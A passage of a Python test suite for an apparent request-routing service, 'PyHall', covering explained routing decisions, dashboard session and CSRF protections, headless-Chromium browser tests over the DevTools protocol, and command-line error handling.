            self.assertEqual(self.route(request=long_request)[2]["allowed"], True)
        self.assertEqual(len(self.hall.prepared), 0)
        self.assertEqual(len(self.hall.prepared._current[1]), 1)   # (the long tenant, noted)
        for number in range(hall.PreparedDecisions.LIMIT + 1):
            self.hall.route(route_body(request={"n": number}))
        self.assertLessEqual(len(self.hall.prepared._current[1]), hall.PreparedDecisions.LIMIT)
        # a Python caller's value JSON has no form for is denied, prepared or not
        for _ in range(2):
            decision = self.hall.route(route_body(request={"x": {1, 2}}))
            self.assertEqual(decision["deny_reason"], "DENY_INVALID_INPUT")


class ExplainTest(unittest.TestCase):

    def explained(self, body, **case):
        """(plain, explained) decisions of one input, decided alike."""
        rules = case.pop("rules", None)
        registry = registry_of(*case.pop("registry", EXPLAIN_REGISTRY))
        if isinstance(case.get("policy"), dict):
            case["policy"] = hall.compile_policy(case["policy"])
        body = dict(body, correlation_id=body.get("correlation_id", "corr-1"))
        same = dict(case, now="2026-11-22T00:00:00.000000+00:00", decision_id="d-1")
        return (decide(body, rules, registry, **same),
                decide(body, rules, registry, explain=True, **same))

    def assertTraceShape(self, trace, deciding=None):
        self.assertEqual([(s["step"], s["name"]) for s in trace],
                         list(enumerate(hall.PIPELINE_STEPS)))
        names = [s["name"] for s in trace]
        cut = names.index(deciding) if deciding else len(names)
        for step in trace[:cut]:
            self.assertIn(step["outcome"], ("pass", "skipped"), step)
        for step in trace[cut + 1:] if deciding else ():
            self.assertEqual(step["outcome"], "not_reached", step)

    def test_every_denial_is_explained_at_its_step(self):
        codes = set()
        for code, step, body, case in EXPLAIN_DENIALS:
            with self.subTest(code=code):
                plain, explained = self.explained(body, **dict(case))
                self.assertEqual(plain["deny_reason"], code)
                self.assertEqual(explained.pop("trace") and explained, plain)
                trace = self.explained(body, **dict(case))[1]["trace"]
                self.assertTraceShape(trace, step)
                denying = [s for s in trace if s["outcome"] == "deny"]
                self.assertEqual(len(denying), 1)
                self.assertEqual((denying[0]["name"], denying[0]["deny_code"]), (step, code))
                codes.add(code)
        router_codes = {c for c in hall.DENY_MESSAGES if not c.startswith("DENY_APPROVAL_")}
        router_codes.discard("DENY_WORKER_TAMPERED")   # the attestation step's other code
        self.assertEqual(router_codes - codes, set())

    def test_an_explained_allow_shows_every_step(self):
        policy = hall.compile_policy({"version": "p-3", "default": "ALLOW", "rules": [
            {"id": "fine", "match": {"env": "prod"}, "outcome": "ALLOW"}]})
        other = worker_record("w.dev", "wrk.doc.summarizer", ["cap.doc.summarize"],
                              allowed_environments=["dev"])
        plain, explained = self.explained({"env": "prod", "data_label": "CONFIDENTIAL"},
                                          policy=policy, registry=[other, SUMMARIZER])
        trace = explained["trace"]
        self.assertFalse(plain["denied"])
        self.assertTraceShape(trace)
        steps = {s["name"]: s for s in trace}
        self.assertEqual(steps["rule"]["tried"], [{"rule_id": "auto.cap.doc.summarize",
                                                   "matched": True, "mismatches": []}])
        self.assertEqual(steps["blast_radius"]["score"], plain["blast_score"])
        self.assertEqual(steps["blast_radius"]["terms"],
                         {"base": 10, "data_label": 30, "env": 15})
        self.assertEqual((steps["policy_gate"]["verdict"], steps["policy_gate"]["policy_rule_id"],
                          steps["policy_gate"]["policy_version"]), ("ALLOW", "fine", "p-3"))
        workers = steps["worker"]["candidates"][0]["workers"]
        self.assertEqual([(w["worker_id"], w["eligible"]) for w in workers],
                         [("w.dev", False), ("w.sum", True)])
        self.assertIn("env prod", workers[0]["reasons"][0])
        self.assertEqual(steps["worker"]["selected_worker_id"], plain["worker_id"])
        self.assertEqual(steps["attestation"]["outcome"], "skipped")

    def test_explanations_say_why_rules_and_controls_failed(self):
        rules = [rule("r.prod", {"env": "prod"}, ["wrk.doc.summarizer"]),
                 rule("r.acme", {"tenant_id": {"in": ["org.x", "org.y*"]}}, ["wrk.doc.summarizer"])]
        trace = self.explained({}, rules=rules)[1]["trace"]
        tried = trace[1]["tried"]
        self.assertEqual(tried[0], {"rule_id": "r.prod", "matched": False, "mismatches": [
            {"key": "env", "value": "dev", "expected": ["prod"]}]})
        self.assertEqual(tried[1]["mismatches"][0]["key"], "tenant_id")
        self.assertEqual(trace[1]["deny_code"], "DENY_NO_MATCHING_RULE")
        rules = [rule("r.ctl", {}, ["wrk.doc.summarizer"], controls=["ctrl.a", "ctrl.b"])]
        registry = [worker_record("w.sum", "wrk.doc.summarizer", ["cap.doc.summarize"],
                                  currently_implements=["ctrl.a"])]
        step = self.explained({}, rules=rules, registry=registry)[1]["trace"][3]
        self.assertEqual((step["required"], step["missing"]), (["ctrl.a", "ctrl.b"], ["ctrl.b"]))

    def test_explain_over_http_and_the_command_line(self):
        with tempfile.TemporaryDirectory() as tmp:
            db = os.path.join(tmp, "hall.db")
            h = hall.Hall(hall.Config(db_path=db, access_log=False))
            try:
                h.enroll(worker_record())
                _, token = h.create_token("router", ["route"])
                server = h.serve(port=0)
                client = Client(server.url)
                try:
                    status, _, d = client.request("POST", "/api/route",
                                                  route_body(explain=True, env="prod",
                                                             data_label="SECRET", qos_class="P0"),
                                                  token)
                    self.assertEqual(status, 200)
                    self.assertEqual(d["trace"][4]["outcome"], "deny")
                    self.assertEqual(d["trace"][4]["deny_code"], d["deny_reason"])
                    self.assertNotIn("trace", client.request("POST", "/api/route",
                                                             route_body(), token)[2])
                    self.assertEqual(client.request("POST", "/api/route",
                                                    route_body(explain="yes"), token)[0], 400)
                finally:
                    client.close()
                    server.stop()
            finally:
                h.close()
            result = run_hall(["route", "--db", db, "--capability", "cap.doc.summarize",
                               "--env", "dev", "--data-label", "PUBLIC", "--tenant", "org.acme",
                               "--explain"])
            self.assertEqual(result.returncode, 0, result.stderr)
            lines = [l for l in result.stdout.splitlines() if re.match(r"^\d\. ", l)]
            self.assertEqual([l.split()[1] for l in lines], list(hall.PIPELINE_STEPS))
            self.assertIn("4. blast_radius        SKIPPED", result.stdout)
            self.assertTrue(result.stdout.rstrip().splitlines()[-1].startswith("allowed: "))


# -- the Hall Monitor page -----------------------------------------------------------

class DashboardServerTest(ServerCase):
    """What the page relies on: the page itself, sessions, CSRF, activity."""

    def sign_in(self, token):
        status, headers, body = self.call("POST", "/api/session", {"token": token})
        self.assertEqual(status, 200, body)
        cookie = headers["set-cookie"]
        return cookie.split(";")[0], body["csrf"], cookie

    def test_the_page_is_served_whole_with_a_strict_policy(self):
        status, headers, page = self.call("GET", "/")
        self.assertEqual(status, 200)
        self.assertEqual(headers["content-type"], "text/html; charset=utf-8")
        html = page.decode("utf-8")
        self.assertTrue(html.lower().startswith("<!doctype html>"))
        # nothing is fetched from outside the hall: no external URL anywhere
        self.assertEqual(re.findall(r"(?:src|href)\s*=\s*[\"']?(?:https?:)?//", html), [])
        self.assertEqual(re.findall(r"@import|url\(\s*[\"']?https?:", html), [])
        policy = headers["content-security-policy"]
        for tag in ("script", "style"):
            for block in re.findall(r"<%s>(.*?)</%s>" % (tag, tag), html, re.S):
                digest = base64.b64encode(hashlib.sha256(block.encode()).digest()).decode()
                self.assertIn("'sha256-%s'" % digest, policy)
        self.assertIn("default-src 'none'", policy)
        self.assertIn("connect-src 'self'", policy)
        self.assertEqual(headers["x-frame-options"], "DENY")
        self.assertNotIn("localStorage", html)
        self.assertNotIn("sessionStorage", html)
        self.assertNotIn("document.cookie", html)

    def test_sign_in_gives_an_httponly_strict_session_cookie(self):
        status, _, view = self.call("GET", "/api/session")
        self.assertEqual((status, view), (200, {"signed_in": False, "name": None, "scopes": [],
                                                "csrf": None, "open_reads": True}))
        status, _, body = self.call("POST", "/api/session", {"token": "hall_wrong"})
        self.assertEqual((status, body["code"]), (401, "UNAUTHORIZED"))
        self.assertEqual(self.call("POST", "/api/session", {"token": 5})[0], 400)
        cookie, csrf, header = self.sign_in(self.admin)
        name, value = cookie.split("=", 1)
        self.assertEqual(name, "pyhall_session")
        self.assertTrue(value.startswith("sess_"))
        self.assertNotIn(self.admin, header)        # the token itself never becomes the cookie
        for attribute in ("HttpOnly", "SameSite=Strict", "Path=/", "Max-Age=43200"):
            self.assertIn(attribute, header)
        self.assertNotIn("Secure", header)          # plain HTTP on loopback
        status, _, view = self.call("GET", "/api/session", headers={"Cookie": cookie})
        self.assertEqual((view["signed_in"], view["name"], view["csrf"]),
                         (True, "test admin", csrf))
        self.assertIn("admin", view["scopes"])
        self.assertEqual(self.call("GET", "/api/approvals", headers={"Cookie": cookie})[0], 200)
        audit = self.call("GET", "/api/audit", token=self.admin)[2]["entries"]
        self.assertIn("session.sign_in", [e["action"] for e in audit])

    def test_changes_made_with_the_cookie_need_the_csrf_token(self):
        cookie, csrf, _ = self.sign_in(self.admin)
        for headers in ({"Cookie": cookie}, {"Cookie": cookie, "X-CSRF-Token": "forged"}):
            status, _, body = self.call("POST", "/api/safe-mode/enter", {"reason": "csrf"},
                                        headers=headers)
            self.assertEqual((status, body["code"]), (403, "CSRF_FAILED"))
        self.assertFalse(self.hall.floor.safe_mode)
        status, _, body = self.call("POST", "/api/safe-mode/enter", {"reason": "from the page"},
                                    headers={"Cookie": cookie, "X-CSRF-Token": csrf})
        self.assertEqual((status, body["safe_mode"]), (200, True))
        # a scripted client sending its token as the cookie is not a browser session
        status, _, _ = self.call("POST", "/api/safe-mode/exit", {},
                                 headers={"Cookie": "pyhall_session=" + self.admin})
        self.assertEqual(status, 200)

    def test_sign_out_and_revocation_end_the_session(self):
        cookie, csrf, _ = self.sign_in(self.admin)
        self.assertEqual(self.call("DELETE", "/api/session", headers={"Cookie": cookie})[0], 403)
        status, headers, view = self.call("DELETE", "/api/session",
                                          headers={"Cookie": cookie, "X-CSRF-Token": csrf})
        self.assertEqual((status, view["signed_in"]), (200, False))
        self.assertIn("Max-Age=0", headers["set-cookie"])
        self.assertEqual(self.call("GET", "/api/approvals", headers={"Cookie": cookie})[0], 401)
        token_id, secret = self.hall.create_token("short-lived", ["admin"])
        cookie, _, _ = self.sign_in(secret)
        self.assertEqual(self.call("GET", "/api/approvals", headers={"Cookie": cookie})[0], 200)
        self.hall.revoke_token(token_id)
        self.assertEqual(self.call("GET", "/api/approvals", headers={"Cookie": cookie})[0], 401)
        self.assertFalse(self.call("GET", "/api/session", headers={"Cookie": cookie})[2][
            "signed_in"])

    def test_activity_counts_decisions_and_denials_per_minute(self):
        self.enroll(worker_record())
        self.route()
        self.route(capability_id="cap.unknown")
        status, _, body = self.call("GET", "/api/activity")   # first read: from the log
        self.assertEqual(status, 200)
        minutes = body["minutes"]
        self.assertEqual(len(minutes), 60)
        self.assertEqual([m["minute"] for m in minutes], sorted(m["minute"] for m in minutes))
        self.assertRegex(minutes[-1]["minute"], r"^\d{4}-\d\d-\d\dT\d\d:\d\d:00Z$")
        self.assertEqual((sum(m["decisions"] for m in minutes),
                          sum(m["denied"] for m in minutes)), (2, 1))
        self.route(capability_id="cap.unknown")               # then kept as decisions arrive
        self.call("POST", "/decisions/ingest", {"decided_at": "2020-01-01T00:00:00Z"})
        minutes = self.call("GET", "/api/activity")[2]["minutes"]
        self.assertEqual((sum(m["decisions"] for m in minutes),
                          sum(m["denied"] for m in minutes)), (3, 2))


def find_chromium():
    for name in ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable"):
        path = shutil.which(name)
        if path:
            return path
    return None


class DevTools(object):
    """Just enough of the Chrome DevTools protocol, over a WebSocket (RFC 6455)
    written with the standard library: send a command, wait for its answer,
    keep the events that arrive meanwhile."""

    def __init__(self, ws_url, timeout=20):
        url = urllib.parse.urlsplit(ws_url)
        self.sock = socket.create_connection((url.hostname, url.port), timeout=timeout)
        key = base64.b64encode(os.urandom(16)).decode()
        self.sock.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\n"
                           "Connection: Upgrade\r\nSec-WebSocket-Key: %s\r\n"
                           "Sec-WebSocket-Version: 13\r\n\r\n" % (url.path, url.netloc, key)
                           ).encode())
        self.buffer = b""
        while b"\r\n\r\n" not in self.buffer:
            self.buffer += self.sock.recv(4096)
        head, self.buffer = self.buffer.split(b"\r\n\r\n", 1)
        if b" 101 " not in head.split(b"\r\n")[0]:
            raise AssertionError("no WebSocket: %r" % head[:200])
        self.last_id, self.events = 0, []

    def close(self):
        self.sock.close()

    def _read(self, size):
        while len(self.buffer) < size:
            chunk = self.sock.recv(65536)
            if not chunk:
                raise ConnectionError("the browser closed the connection")
            self.buffer += chunk
        data, self.buffer = self.buffer[:size], self.buffer[size:]
        return data

    def _message(self):
        parts = []
        while True:
            first, second = self._read(2)
            size = second & 0x7F
            if size == 126:
                size = struct.unpack("!H", self._read(2))[0]
            elif size == 127:
                size = struct.unpack("!Q", self._read(8))[0]
            data = self._read(size)
            if first & 0x0F == 0x8:
                raise ConnectionError("the browser closed the connection")
            if first & 0x0F in (0x9, 0xA):     # ping, pong
                continue
            parts.append(data)
            if first & 0x80:
                return json.loads(b"".join(parts))

    def send(self, method, **params):
        self.last_id += 1
        payload = json.dumps({"id": self.last_id, "method": method, "params": params}).encode()
        mask = os.urandom(4)
        if len(payload) < 126:
            header = struct.pack("!BB", 0x81, 0x80 | len(payload))
        else:
            header = struct.pack("!BBH", 0x81, 0x80 | 126, len(payload))
        self.sock.sendall(header + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
        while True:
            message = self._message()
            if message.get("id") == self.last_id:
                if "error" in message:
                    raise AssertionError("%s: %s" % (method, message["error"]))
                return message["result"]
            self.events.append(message)

    def evaluate(self, expression):
        result = self.send("Runtime.evaluate", expression=expression, returnByValue=True,
                           awaitPromise=True)
        if "exceptionDetails" in result:
            raise AssertionError("%s: %s" % (expression, result["exceptionDetails"]))
        return result["result"].get("value")


@unittest.skipUnless(find_chromium(), "Chromium is not installed: the dashboard is not tested "
                                      "in a browser here (.ci/run installs it)")
class DashboardBrowserTest(ServerCase):
    """The page in a real headless Chromium against a hall with data."""

    def setUp(self):
        ServerCase.setUp(self)
        self.enroll(worker_record("org.example.sum"))
        self.route()
        self.route(capability_id="cap.unknown")
        self.hall.raise_alert("critical", "TEST_ALERT", "the browser should show this")
        pending = self.route(env="prod", data_label="SECRET", qos_class="P0")[2]
        self.approval_id = pending["deny_reason_if_denied"]["approval_id"]
        profile = os.path.join(self.tmp.name, "chromium")
        self.browser_log = open(os.path.join(self.tmp.name, "chromium.log"), "w+")
        self.browser = subprocess.Popen(
            [find_chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
             "--no-default-browser-check", "--remote-debugging-port=0",
             "--user-data-dir=" + profile, "--window-size=1280,800", "about:blank"],
            stdout=subprocess.DEVNULL, stderr=self.browser_log,
            env=dict(os.environ, TMPDIR=self.tmp.name),     # its own temporary files too
            start_new_session=True)             # its helpers in its process group
        self.addCleanup(self.stop_browser)      # even if the set-up fails from here on
        self.addCleanup(self.browser_log.close)
        self.page = None

        def devtools_port():
            with open(self.browser_log.name) as log:
                match = re.search(r"DevTools listening on ws://[^:]+:(\d+)/", log.read())
            return match and int(match.group(1))
        self.assertTrue(poll(lambda: devtools_port() or self.browser.poll() is not None, 30))
        port = devtools_port()
        self.assertIsNotNone(port, "Chromium did not start")
        with urllib.request.urlopen("http://127.0.0.1:%d/json/list" % port, timeout=10) as r:
            page = [t for t in json.load(r) if t["type"] == "page"][0]
        self.page = DevTools(page["webSocketDebuggerUrl"])
        self.page.send("Network.enable")
        self.page.send("Page.enable")
        self.page.send("Page.navigate", url=self.server.url + "/")

    def tearDown(self):
        if self.page is not None:
            self.page.close()
        self.stop_browser()                     # before the hall stops: no stream left open
        ServerCase.tearDown(self)

    def stop_browser(self):
        """Stop Chromium and every helper it started, and remove its profile
        (a helper may still be writing there for a moment after the stop)."""
        if self.browser.returncode is not None:
            return                              # stopped already: its group id may be reused
        if self.browser.poll() is None:
            with contextlib.suppress(OSError):
                os.killpg(self.browser.pid, signal.SIGTERM)
            try:
                self.browser.wait(10)
            except subprocess.TimeoutExpired:
                pass
        with contextlib.suppress(OSError):
            os.killpg(self.browser.pid, signal.SIGKILL)
        reap(self.browser)
        profile = os.path.join(self.tmp.name, "chromium")

        def removed():
            shutil.rmtree(profile, ignore_errors=True)
            return not os.path.exists(profile)
        self.assertTrue(poll(removed), "Chromium's profile could not be removed")

    def wait_for(self, expression, what, timeout=20.0):
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            value = self.page.evaluate(expression)
            if value:
                return value
            time.sleep(0.1)
        self.fail("the page never showed %s" % what)

    def test_the_page_shows_live_data_and_acts_for_an_admin(self):
        page = self.page
        # what was there before the page loaded
        self.wait_for("!!document.querySelector('#workers tr[data-worker-id=\"org.example.sum\"]')",
                      "the enrolled worker")
        self.wait_for("!!document.querySelector('#alerts li.level-critical')", "the alert")
        self.assertIn("the browser should show this",
                      page.evaluate("document.querySelector('#alerts').textContent"))
        self.wait_for("document.querySelector('#stream-state').textContent.trim() == 'live'",
                      "the live stream")
        # a decision made after the page loaded arrives by itself
        decision = self.route(capability_id="cap.late.arrival")[2]
        row = "#feed li[data-decision-id=\"%s\"]" % decision["decision_id"]
        self.wait_for("!!document.querySelector('%s')" % row, "the new decision")
        self.assertEqual(page.evaluate("document.querySelector('%s').className" % row).split()[:2],
                         ["decision", "denied"])
        self.assertIn("DENY_NO_MATCHING_RULE", page.evaluate(
            "document.querySelector('%s').textContent" % row))
        self.wait_for("document.querySelector('[data-field=\"decisions_total\"]').textContent"
                      ".trim() == '4'", "the decision counted in the tiles")
        self.assertEqual(page.evaluate("document.querySelectorAll('#chart rect.c-bar').length"),
                         61)
        # the admin views are hidden until an admin signs in through the page
        self.assertTrue(page.evaluate("document.querySelector('#admin').hidden"))
        page.evaluate("document.querySelector('#signin-toggle') && "
                      "document.querySelector('#signin-toggle').click()")
        page.evaluate("document.querySelector('#token').value = %s; "
                      "document.querySelector('#signin').requestSubmit()" % json.dumps(self.admin))
        approval = "#approvals li[data-approval-id=\"%s\"]" % self.approval_id
        self.wait_for("!!document.querySelector('%s')" % approval, "the pending approval")
        self.assertEqual(page.evaluate("document.querySelector('#token').value"), "")
        # nothing secret where scripts can read it
        self.assertEqual(page.evaluate("[localStorage.length, sessionStorage.length, "
                                       "document.cookie]"), [0, 0, ""])
        page.evaluate("document.querySelector('%s button.approve').click()" % approval)
        self.assertTrue(poll(lambda: self.db_rows(
            "SELECT status FROM approvals WHERE approval_id = ?", (self.approval_id,)) ==
            [("approved",)]), "the approval was not approved")
        page.evaluate("document.querySelector('#sm-reason').value = 'drill from the page'; "
                      "document.querySelector('#sm-toggle').click()")
        self.assertTrue(poll(lambda: self.hall.floor.safe_mode), "safe mode was not entered")
        self.assertEqual(self.hall.safe_mode_state.get("reason"), "drill from the page")
        self.wait_for("document.querySelector('#safe-mode').dataset.safeMode == 'on'",
                      "safe mode on")
        # (the live stream may show it on before the page's own request has
        # come back and given the button back)
        self.wait_for("!document.querySelector('#sm-toggle').disabled", "the toggle again")
        page.evaluate("document.querySelector('#sm-toggle').click()")
        self.assertTrue(poll(lambda: not self.hall.floor.safe_mode), "safe mode was not left")
        # every request the page made went to this hall
        requested = [e["params"]["request"]["url"] for e in page.events
                     if e.get("method") == "Network.requestWillBeSent"]
        self.assertTrue(requested)
        self.assertEqual([u for u in requested if not u.startswith((self.server.url, "blob:",
                                                                    "data:"))], [])

    def test_the_page_fits_a_phone(self):
        self.wait_for("!!document.querySelector('#workers tr[data-worker-id]')", "the worker")
        self.page.send("Emulation.setDeviceMetricsOverride", width=390, height=844,
                       deviceScaleFactor=2, mobile=True)
        self.wait_for("document.documentElement.scrollWidth <= window.innerWidth",
                      "no horizontal scrolling at 390 px")
        self.assertEqual(self.page.evaluate("window.innerWidth"), 390)


# -- embedding and command line ----------------------------------------------------

class EmbeddingTest(unittest.TestCase):

    def test_timestamps_are_datetimes_isoformat_of_now(self):
        epoch = datetime.datetime(1970, 1, 1, tzinfo=datetime.timezone.utc)
        moments = [0, 1767225599999999999, 1767225600000000000, 1767225600000000999,
                   1767225599000001000, 1790000000123456789, 4102444799999999000]
        for ns in moments:
            with mock.patch("time.time_ns", return_value=ns):
                text = hall.now_iso()
            expected = (epoch + datetime.timedelta(microseconds=ns // 1000)).isoformat(
                timespec="microseconds")
            self.assertEqual(text, expected)
        before = datetime.datetime.now(datetime.timezone.utc).isoformat(timespec="microseconds")
        now = hall.now_iso()
        after = datetime.datetime.now(datetime.timezone.utc).isoformat(timespec="microseconds")
        self.assertTrue(before <= now <= after, (before, now, after))

    def test_in_process_hall_gives_the_same_answers(self):
        h = hall.Hall(":memory:")
        try:
            record = worker_record()
            self.assertIn("enrollment_id", h.enroll(record))
            self.assertEqual(h.enroll(record)["updated"], True)
            d = h.route(route_body())
            self.assertEqual((d["allowed"], d["worker_id"]), (True, record["worker_id"]))
            self.assertEqual(h.ingest({"decision_id": "x"})["decision_id"], "x")
            self.assertEqual(h.status()["decisions_total"], 2)
            with self.assertRaises(hall.HallError) as caught:
                h.enroll(dict(record, risk_tier="tampered"))
            self.assertEqual((caught.exception.status, caught.exception.code),
                             (400, "DENY_WORKER_TAMPERED"))
            with self.assertRaises(hall.HallError) as caught:
                h.route({"env": "dev"})
            self.assertEqual(caught.exception.message, "missing field: capability_id")
        finally:
            h.close()

    def test_compute_artifact_hash_matches_the_reference_recipe(self):
        record = {"worker_id": "org.example.my-summarizer",
                  "worker_species_id": "wrk.doc.summarizer",
                  "capabilities": ["cap.doc.summarize"], "risk_tier": "low"}
        payload = json.dumps(record, sort_keys=True, separators=(",", ":")).encode()
        expected = "sha256:" + hashlib.sha256(payload).hexdigest()
        self.assertEqual(hall.compute_artifact_hash(record), expected)
        self.assertEqual(hall.compute_artifact_hash(dict(record, artifact_hash="x")), expected)

    def test_import_has_no_side_effects(self):
        with tempfile.TemporaryDirectory() as tmp:
            probe = ("import os, sys, threading; sys.path.insert(0, %r); before = set(os.listdir('.'));"
                     "import hall; assert threading.active_count() == 1;"
                     "assert set(os.listdir('.')) == before; print('clean')" % HERE)
            result = subprocess.run([sys.executable, "-c", probe], cwd=tmp,
                                    capture_output=True, text=True, timeout=60)
            self.assertEqual(result.stdout.strip(), "clean", result.stderr)


def hall_environ(**settings):
    """This process's environment without any HALL_ setting, plus ``settings``."""
    environ = {k: v for k, v in os.environ.items() if not k.startswith("HALL_")}
    environ.update(settings)
    return environ


def refuses_connections(port):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=10).close()
    except ConnectionRefusedError:
        return True
    return False


def reap(process):
    """Make sure a hall process started by a test is gone and its pipes closed."""
    if process.poll() is None:
        process.kill()
        process.wait()
    for pipe in (process.stdout, process.stderr):
        if pipe is not None:
            pipe.close()


def run_hall(args, env=None, cwd=None, timeout=30, stdin=""):
    return subprocess.run([sys.executable, HALL_PY] + args, env=hall_environ(**(env or {})),
                          cwd=cwd, capture_output=True, text=True, timeout=timeout, input=stdin)


class CommandLineTest(unittest.TestCase):

    def test_bad_urls_bench_arguments_and_non_halls_exit_2_with_one_line(self):
        class NotAHall(http.server.BaseHTTPRequestHandler):
            def do_GET(self):                   # /api/...: JSON, but of another shape
                body = b'{"ok": true}' if self.path.startswith("/api/") else b"<html>hi</html>"
                if self.path == "/api/log/verify":  # the names of a report, not its types
                    body = json.dumps(dict(intact=False, entries=1, length=1, head="h",
                                           pruned=0, sealed=None, problems=5,
                                           first_problem=None)).encode()
                self.send_response(404 if self.path.startswith("/workers") else 200)
                # (/workers: the connection closes before the length it promised)
                self.send_header("Content-Length", str(len(body) + (
                    10 if self.path.startswith("/workers") else 0)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                self.rfile.read(int(self.headers["Content-Length"]))
                self.do_GET()

            def log_message(self, *args):
                pass
        other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), NotAHall)
        threading.Thread(target=other.serve_forever, daemon=True).start()
        self.addCleanup(other.server_close)
        self.addCleanup(other.shutdown)
        url = "http://127.0.0.1:%d" % other.server_address[1]
        cases = [(["status", "--url", "foo"], "--url must be an http:// or https:// URL"),
                 (["route", "--url", "file:///etc"], "--url must be an http:// or https:// URL"),
                 (["status", "--url", "http://[::1"], "cannot reach"),
                 (["status", "--url", url], "other than a hall's answer"),
                 (["route", "--url", url, "--capability", "cap.x"], "other than a hall's answer"),
                 (["verify-log", "--url", url], "($.problems is not of type array)"),
                 (["verify-receipt", "-", "--url", url], "other than a hall's answer"),
                 (["workers", "--url", url], "404 (not an answer of a hall)"),
                 (["bench", "--processes", "0"], "--processes must be at least 1"),
                 (["bench", "--seconds", "0"], "--seconds must be above 0"),
                 (["bench", "--connections", "2"], "--connections must be at least 4"),
                 (["bench", "--url", "http://127.0.0.1:abc"], "--url must be an http:// URL"),
                 (["bench", "--url", url], "other than a hall's answer")]
        with tempfile.TemporaryDirectory() as tmp:
            for args, said in cases:
                result = run_hall(args, cwd=tmp, stdin="{}")
                self.assertEqual(result.returncode, 2, (args, result.stderr))
                self.assertIn(said, result.stderr, args)
                self.assertNotIn("Traceback", result.stderr, args)
            self.assertEqual(os.listdir(tmp), [])

    def test_bench_load_counts_what_is_not_an_answer_as_errors(self):
        class Odd(socketserver.BaseRequestHandler):
            def handle(self):
                self.request.recv(65536)
                if self.server.answer:          # no Content-Length, then closed
                    self.request.sendall(self.server.answer)
                else:                           # reset
                    self.request.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                                            struct.pack("ii", 1, 0))
        ports = []
        refused = b"HTTP/1.1 503 Busy\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        for answer in (b"HTTP/1.1 200 OK\r\n\r\nhi", b"HTTP/1.1 200 OK\r\nContent-Len",
                       b"garbage\r\nContent-Length: 0\r\n\r\n", b"", refused):
            server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Odd)
            server.daemon_threads, server.answer = True, answer
            threading.Thread(target=server.serve_forever, daemon=True).start()
            self.addCleanup(server.server_close)
            self.addCleanup(server.shutdown)
            ports.append(server.server_address[1])
        with socket.socket() as unused:         # a port nobody listens on
            unused.bind(("127.0.0.1", 0))
            ports.append(unused.getsockname()[1])
        for port, answered in zip(ports, [0, 0, 0, 0, 3, 0]):
            latencies, errors = hall._bench_load(
                ("127.0.0.1", port, [b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"], 3, 0, 0.2))
            self.assertEqual((len(latencies), errors), (answered, 3), port)   # (once each)

    def test_bad_settings_exit_2_with_one_line(self):
        with tempfile.TemporaryDirectory() as tmp:
            bad_rules = os.path.join(tmp, "rules.json")
            with open(bad_rules, "w") as handle:
                handle.write('{"rules": [{"rule_id": "x", "match": {"env": "moon"}, '
                             '"decision": {}}]}')
            bad_json = os.path.join(tmp, "policy.json")
            with open(bad_json, "w") as handle:
                handle.write("{not json")
            not_db = os.path.join(tmp, "junk.db")
            with open(not_db, "wb") as handle:
                handle.write(b"this is not a database" * 100)
            cases = [(["--port", "abc"], {}, "port must be an integer"),
                     ([], {"HALL_API_PORT": "70000"}, "port must be between"),
                     (["--rules", os.path.join(tmp, "missing.json")], {}, "cannot read rules"),
                     (["--rules", bad_rules], {}, "'moon' is not one of"),
                     (["--policy", bad_json], {}, "policy file"),
                     (["--db", not_db], {}, "cannot use database"),
                     (["--tls-cert", bad_json], {}, "TLS needs both"),
                     (["--tls-cert", bad_json, "--tls-key", bad_json], {},
                      "cannot load TLS certificate"),
                     (["--host", "0.0.0.0"], {}, "refusing to serve plain HTTP"),
                     ([], {"HALL_TENANTS": " , ,"}, "HALL_TENANTS names no tenant"),
                     (["dispatches", "--limit", "-5"], {}, "--limit must be from 1 to 200"),
                     (["dispatches", "--limit", "201"], {}, "--limit must be from 1 to 200")]
            taken = socket.socket()
            self.addCleanup(taken.close)
            taken.bind(("127.0.0.1", 0))
            taken.listen(1)
            cases.append(([], {"HALL_API_PORT": str(taken.getsockname()[1])},
                          "cannot listen on 127.0.0.1:%d" % taken.getsockname()[1]))
            for args, env, message in cases:
                env = dict({"HALL_API_PORT": "0"}, **env)   # (a hall on 8765 changes nothing)
                result = run_hall(args + ["--db", os.path.join(tmp, "h.db")]
                                  if "--db" not in args else args, env, cwd=tmp)
                self.assertEqual(result.returncode, 2, (args, result.stderr))
                lines = result.stderr.strip().splitlines()
                self.assertEqual(len(lines), 1, result.stderr)
                self.assertIn(message, lines[0])
                self.assertNotIn("Traceback", result.stderr)
            with open(not_db, "rb") as handle:
                self.assertTrue(handle.read().startswith(b"this is not a database"))
            # refused before anything was made: no database, no key file, no token
            self.assertEqual(sorted(os.listdir(tmp)), ["junk.db", "policy.json", "rules.json"])

    def test_serve_prints_start_line_writes_token_and_stops_on_sigterm(self):
        with tempfile.TemporaryDirectory() as tmp:
            environ = hall_environ(HALL_API_PORT="0")
            process = subprocess.Popen([sys.executable, "-u", HALL_PY, "--db",
                                        os.path.join(tmp, "hall.db")], cwd=tmp, env=environ,
                                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            try:
                line = process.stdout.readline()
                self.assertRegex(line, r"^\[hall-api\] PyHall API v0\.3\.0 starting on "
                                       r"http://127\.0\.0\.1:\d+$")
                url = line.split(" on ")[1].strip()
                token_line = process.stdout.readline()
                token_path = os.path.join(tmp, "hall.token")
                self.assertIn(token_path, token_line)
                self.assertEqual(stat.S_IMODE(os.stat(token_path).st_mode), 0o600)
                with open(token_path) as handle:
                    token = handle.read().strip()
                self.assertGreaterEqual(len(token), 40)
                client = Client(url)
                status, _, body = client.request("POST", "/api/route", route_body(), token)
                self.assertEqual((status, body["deny_reason"]), (200, "DENY_NO_MATCHING_RULE"))
                client.close()
                process.terminate()
                self.assertEqual(process.wait(timeout=15), 0)
            finally:
                reap(process)
            # a second start keeps the first token and writes no new one
            process = subprocess.Popen([sys.executable, "-u", HALL_PY, "--db",
                                        os.path.join(tmp, "hall.db")], cwd=tmp, env=environ,
